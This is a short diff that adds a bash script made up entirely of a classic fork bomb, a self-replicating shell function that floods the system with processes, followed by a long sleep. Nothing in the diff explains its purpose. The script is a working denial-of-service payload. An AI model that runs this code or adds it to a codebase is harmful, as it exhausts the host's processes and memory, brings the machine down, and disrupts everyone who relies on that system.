@@ -1,0 +1,4 @@
+#!/bin/bash
+bomb() { bomb | bomb & }
+bomb
+sleep 3600
